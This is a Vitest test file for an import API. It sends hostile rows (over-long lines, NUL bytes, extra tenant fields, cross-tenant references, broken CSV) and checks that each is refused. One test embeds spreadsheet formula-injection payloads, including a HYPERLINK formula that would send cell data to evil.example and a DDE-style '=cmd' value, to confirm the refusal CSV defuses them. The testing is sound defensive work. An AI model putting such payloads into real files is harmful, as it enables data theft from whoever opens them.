/**
 * Issue 21 review: hostile import files, sent as a supplier's system would (an import:write key).
 * Each bad row is refused with its line and nothing of it applied, the rest goes in, no answer is a
 * 5xx, and the refusal report is a CSV a spreadsheet opens without running anything a row put in it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accounts } from '../../../src/server/db/schema';
import { MAX_ROW_BYTES } from '../../../src/server/imports/read-rows';
import { createTestApp, loginAs, type TestApp } from '../support/test-app';
import { ndjson, type Job, type Refusal } from '../imports/support';

let t: TestApp;
let bearer: Record<string, string>;

beforeAll(async () => {
  t = await createTestApp();
  const admin = (await loginAs(t.app, 'demo', 'admin@demo.test')).body.user_key;
  const response = await t.app.inject({ method: 'POST', url: '/api/demo/integrations/api-keys', headers: { 'user-key': admin }, payload: { name: 'hostile', scopes: ['import:write'] } });
  bearer = { authorization: `Bearer ${(response.json() as { secret: string }).secret}` };
});
afterAll(() => t.close());

const address = { street1: '1 Main St', city: 'Montpelier', state: 'VT', zipcode: '05602', country: 'US' };
const account = (id: string, extra: object = {}) => ({ kind: 'account', external_id: id, display_name: 'Row Attack', billing_address: address, account_balance: 0, amount_due: 0, ...extra });

async function run(body: string | Buffer, contentType = 'application/x-ndjson', query = ''): Promise<{ job: Job; refusals: Refusal[] }> {
  const response = await t.app.inject({ method: 'POST', url: `/api/demo/imports${query}`, headers: { ...bearer, 'content-type': contentType }, payload: body });
  expect(response.statusCode, response.body).toBe(202);
  await t.app.importWorker.drain();
  const id = (response.json() as Job).job_id;
  const job = (await t.app.inject({ method: 'GET', url: `/api/demo/imports/${id}`, headers: bearer })).json() as Job;
  const refusals = ((await t.app.inject({ method: 'GET', url: `/api/demo/imports/${id}/refusals?size=100`, headers: bearer })).json() as { content: Refusal[] }).content;
  return { job, refusals };
}

const demoAccounts = async () => new Set((await t.database.withTenant('demo', (db) => db.select({ id: accounts.accountId }).from(accounts))).map((a) => a.id));

describe('hostile rows', () => {
  it('refuses a line over the limit, NUL bytes and a huge number row by row, and applies the good rows', async () => {
    // Twice the limit: a 10 MB line is refused the same way, only slower to send.
    const tooLong = `{"kind":"account","external_id":"990010","display_name":"${'x'.repeat(2 * MAX_ROW_BYTES)}"}\n`;
    const body = tooLong + ndjson(account('990011', { display_name: 'NUL\u0000here' }), account('990012', { account_balance: 1e308 * 10 }), account('990013'));
    const { job, refusals } = await run(body);
    expect(job).toMatchObject({ status: 'succeeded', rows_read: 4, rows_applied: 1, rows_refused: 3 });
    expect(refusals.map((r) => r.line).sort()).toEqual([1, 2, 3]);
    expect(refusals.find((r) => r.line === 1)?.message).toMatch(`longer than ${MAX_ROW_BYTES / 1024 / 1024} MB`);
    const held = await demoAccounts();
    expect([...['990010', '990011', '990012', '990013']].filter((id) => held.has(id))).toEqual(['990013']);
  });

  it('refuses fields the schema does not have (an owner, a tenant, a deleted flag) and applies nothing of the row', async () => {
    const { job, refusals } = await run(ndjson(account('990020', { owner_user_id: 1, tenant_id: 'cleangas', is_deleted: true })));
    expect(job).toMatchObject({ status: 'succeeded', rows_applied: 0, rows_refused: 1 });
    expect(refusals.map((r) => r.path).sort()).toEqual(['$.is_deleted', '$.owner_user_id', '$.tenant_id']);
    expect((await demoAccounts()).has('990020')).toBe(false);
  });

  it("does not let a row name another tenant's account", async () => {
    // An account only the other tenant holds, imported there by its own Admin.
    const theirs = 'CG-ONLY-1';
    const cleangasAdmin = (await loginAs(t.app, 'cleangas', 'admin@demo.test')).body.user_key;
    const there = await t.app.inject({ method: 'POST', url: '/api/cleangas/imports', headers: { 'user-key': cleangasAdmin, 'content-type': 'application/x-ndjson' }, payload: ndjson(account(theirs)) });
    expect(there.statusCode, there.body).toBe(202);
    await t.app.importWorker.drain();
    expect((await t.database.withTenant('cleangas', (db) => db.select({ id: accounts.accountId }).from(accounts))).some((a) => a.id === theirs)).toBe(true);
    const { job, refusals } = await run(
      ndjson(
        { kind: 'transaction', external_id: 'TX-CROSS', account_id: theirs, transaction_date: '2026-11-01', transaction_type: 'adjustment', description: 'x', amount: 1, is_credit: false, balance: 1 },
        { kind: 'location', external_id: 'L-CROSS', account_id: theirs, location_number: 1, address },
      ),
    );
    expect(job).toMatchObject({ rows_applied: 0, rows_refused: 2 });
    expect(refusals.map((r) => [r.path, r.message])).toEqual([
      ['$.account_id', expect.stringMatching(/^refers to account "CG-ONLY-1"/)],
      ['$.account_id', expect.stringMatching(/^refers to account "CG-ONLY-1"/)],
    ]);
  });

  it.each([
    ['an over-long record', '99004', (row: (id: string, name?: string) => string) => row('990042', 'x'.repeat(MAX_ROW_BYTES + 10))],
    ['a stray quote', '99005', () => '990052,"Stray"quote,1 Main St,Montpelier,VT,05602,US,0,0'],
    ['an unclosed quote', '99006', () => '990062,"never closed,1 Main St,Montpelier,VT,05602,US,0,0'],
  ])('stops a CSV file at %s with its line, the rows before applied, never a success that dropped the rest', async (_name, before, bad) => {
    const header = 'external_id,display_name,billing_address.street1,billing_address.city,billing_address.state,billing_address.zipcode,billing_address.country,account_balance,amount_due';
    const row = (id: string, name = 'Csv Row') => `${id},${name},1 Main St,Montpelier,VT,05602,US,0,0`;
    const body = [header, row(`${before}1`), bad(row), row(`${before}3`)].join('\n');
    const { job } = await run(body, 'text/csv', '?kind=account');
    expect(job).toMatchObject({ status: 'failed', rows_applied: 1, error: expect.stringMatching(/^The file is not valid CSV at line 3: /) });
    const held = await demoAccounts();
    expect(held.has(`${before}1`)).toBe(true);
    expect(held.has(`${before}3`)).toBe(false);
  });

  it('defuses formulas a row puts in the refusal report', async () => {
    const { job } = await run(ndjson({ ...account('=HYPERLINK("http://evil.example/?"&A1)'), amount_due: 'x' }, { ...account('@SUM(1+1)'), '=cmd|x': 1 }));
    const csv = await t.app.inject({ method: 'GET', url: `/api/demo/imports/${job.job_id}/refusals.csv`, headers: bearer });
    expect(csv.statusCode).toBe(200);
    const cells = csv.body.replace(/^\uFEFF/, '').split('\r\n').slice(1).filter(Boolean);
    expect(cells.length).toBeGreaterThan(0);
    for (const line of cells) for (const cell of line.split(',')) expect(cell.replace(/^"/, ''), line).not.toMatch(/^[=+\-@]/);
  });
});
